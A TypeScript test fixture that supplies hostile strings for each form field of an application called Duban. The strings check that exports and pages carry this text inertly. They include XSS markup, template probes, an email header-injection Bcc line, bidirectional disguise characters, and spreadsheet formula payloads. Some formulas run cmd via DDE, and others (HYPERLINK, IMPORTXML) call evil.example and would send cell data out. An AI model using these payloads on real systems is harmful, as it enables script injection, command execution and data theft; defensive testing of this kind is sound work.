/**
 * What a hostile or careless hand can type into any field Duban shows again: markup that tries to leave its element
 * or attribute, a script link, template syntax, a header break with a header after it, bidirectional overrides that
 * disguise what is read, zero-width characters, and text a spreadsheet would run as a formula. Each field's text
 * carries a token of its own (⟦name⟧), so a test can tell where it landed and check that it arrived whole, as text.
 */
const MARKUP = `</style></title></textarea><img src=x onerror=alert(1)>"><script>alert(2)</script>'><svg onload=alert(3)>{{7*7}}\${7*7}<!--`;
const HEADER_BREAK = '\r\nBcc: victim@evil.example\r\nX-Injected: yes\r\n';
const DISGUISE = '\u202Egpj.exe\u202C\u2066\u200B\u200D\uFEFF';

/** One text per field; each starts with a character a spreadsheet reads as the start of a formula. */
export const HOSTILE = {
  planTitle: `=HYPERLINK("https://evil.example/?"&A1,"详情")⟦planTitle⟧${DISGUISE}${MARKUP}`,
  unitA: `+1+cmd|' /C calc'!A0⟦unitA⟧${HEADER_BREAK}${MARKUP}`,
  // No quote, comma or line break, which would make any CSV writer quote it; semicolons, which some locales separate by.
  unitB: `-2+3+cmd|' /C calc'!A0⟦unitB⟧${DISGUISE};=2+2;@SUM(3)`,
  office: `@SUM(1+1)*cmd|' /C calc'!A0⟦office⟧${MARKUP}`,
  measureTitle: `=1+1⟦measureTitle⟧${HEADER_BREAK}${MARKUP}`,
  measureText: `\t=1+1⟦measureText⟧ javascript:alert(4) ${MARKUP}${'长'.repeat(5_000)}`,
  target: `\r=1+1⟦target⟧${MARKUP}`,
  narrative: `=IMPORTXML("https://evil.example","//a")⟦narrative⟧\n第二行${MARKUP}${'进'.repeat(19_000)}`,
  attachmentTitle: `⟦attachmentTitle⟧${MARKUP}`,
  auditReason: `=cmd|'/C calc'!A0⟦auditReason⟧${MARKUP}`,
  extensionReason: `@⟦extensionReason⟧${HEADER_BREAK}${MARKUP}`,
  decisionNote: `+⟦decisionNote⟧${MARKUP}`,
  coordinatorName: `=⟦coordinatorName⟧${MARKUP}`,
  memberName: `-⟦memberName⟧${DISGUISE}${MARKUP}`,
  leaderName: `@⟦leaderName⟧${HEADER_BREAK}${MARKUP}`,
  adminName: `+⟦adminName⟧${MARKUP}`,
} as const;
export type THostileField = keyof typeof HOSTILE;

/** A link no page may turn into one a click runs. */
export const SCRIPT_LINK = 'javascript:alert(document.cookie)';

/** Bidirectional embedding, override and isolate controls: they only reorder what a reader sees. */
export const BIDI_CONTROLS = /[\u202A-\u202E\u2066-\u2069]/g;

/**
 * A field's text as any rendered document must still carry it: line breaks as HTML, mail and spreadsheets read them
 * (CR LF and CR become LF), and without bidirectional controls, which every rendering drops.
 */
export const shown = (text: string): string => text.replace(/\r\n?/g, '\n').replace(BIDI_CONTROLS, '');

/** The tokens found in a text, by field. */
export function tokensIn(text: string): THostileField[] {
  return (Object.keys(HOSTILE) as THostileField[]).filter((field) => text.includes(`⟦${field}⟧`));
}
